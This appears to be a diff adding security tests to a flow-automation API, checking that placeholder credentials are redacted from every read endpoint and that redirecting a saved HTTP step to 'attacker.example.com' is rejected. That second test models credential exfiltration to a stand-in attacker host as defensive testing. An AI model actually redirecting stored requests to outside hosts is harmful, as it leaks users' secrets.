@@ -62,3 +62,82 @@ test('An answer tells that the execution of somebody else exists', async () => {
   const { body: list } = await server.call(`/executions?search=${theirs}`, { as: 'otto' })
   expect(list).toEqual({ executions: [], total: 0, as_of: null })
 })
+
+const secrets = ['sk-live-1', 'sk-live-2', 'sk-live-3', 'sk-live-4', 'sk-live-5']
+
+/** A step that calls an API with credentials in every place that takes one. */
+const callWithCredentials = {
+  id: 'call',
+  type: 'external_api',
+  api: {
+    url: `https://api.example.com/v1?api_key=${secrets[0]}&q=tea`,
+    headers: {
+      Authorization: `Bearer ${secrets[1]}`,
+      'X-API-Key': `${secrets[2]}`,
+      'x-custom-token': `${secrets[3]}`,
+      Cookie: `session=${secrets[4]}`,
+    },
+  },
+}
+
+test('A viewer reads the credentials that an HTTP step sends', async () => {
+  const flow_id = await server.save([callWithCredentials])
+  const changed = structuredClone(callWithCredentials)
+  changed.api.headers['X-API-Key'] = 'sk-live-6'
+  const definition = { id: flow_id, label: 'Changed', steps: [changed] }
+  const put = await server.call(`/flows/${flow_id}`, {
+    as: 'mara',
+    method: 'PUT',
+    body: { flow_definition: definition },
+  })
+  const validated = await server.post('/flows/validate', { flow_definition: definition }, { as: 'mara' })
+  const ran = await server.post('/execute-flow', { flow_id, context: {} })
+  const tried = await server.post('/flows/try', { flow_definition: definition }, { as: 'mara' })
+  const id = ran.body.execution_id as string
+  const paths = [
+    '/flows',
+    `/flows/${flow_id}`,
+    `/flows/${flow_id}/versions`,
+    `/flows/${flow_id}/versions/1`,
+    `/flows/${flow_id}/diff`,
+    '/executions',
+    ...['', '/logs', '/trace', '/input', '/steps/call'].map((rest) => `/executions/${id}${rest}`),
+    `/execution-status/${id}`,
+    `/execution-stream/${id}`,
+  ]
+  const read: [string, { readonly status: number; readonly body: unknown }][] = []
+  for (const path of paths) read.push([path, await server.call(path)])
+  const trace = await server.call(`/executions/${tried.body.execution_id}/trace`, { as: 'mara' })
+  for (const [path, { status, body }] of [
+    ['PUT', put],
+    ['validate', validated],
+    ['execute-flow', ran],
+    ['try', tried],
+    ['trace of the try', trace],
+    ...read,
+  ] as typeof read) {
+    expect(status, path).toBeLessThan(300)
+    expect(JSON.stringify(body), path).not.toContain('sk-live')
+  }
+})
+
+test('An author sends the credential of a flow to a server of their own', async () => {
+  const flow_id = await server.save([callWithCredentials])
+  const { body: whole } = await server.call(`/flows/${flow_id}`)
+  const moved = JSON.parse(
+    JSON.stringify(whole.flow_definition).replace(
+      'https://api.example.com/',
+      'https://attacker.example.com/',
+    ),
+  )
+  for (const [method, path] of [
+    ['PUT', `/flows/${flow_id}`],
+    ['POST', '/flows/try'],
+  ] as const) {
+    const { status, body } = await server.call(path, { as: 'mara', method, body: { flow_definition: moved } })
+    expect([status, body.error.code]).toEqual([422, 'INVALID_FLOW_DEFINITION'])
+    const places = body.error.details.problems.map((problem: { path: string }) => problem.path)
+    const headers = Object.keys(callWithCredentials.api.headers).map((name) => `steps[0].api.headers.${name}`)
+    expect(new Set(places)).toEqual(new Set(['steps[0].api.url', ...headers]))
+  }
+})
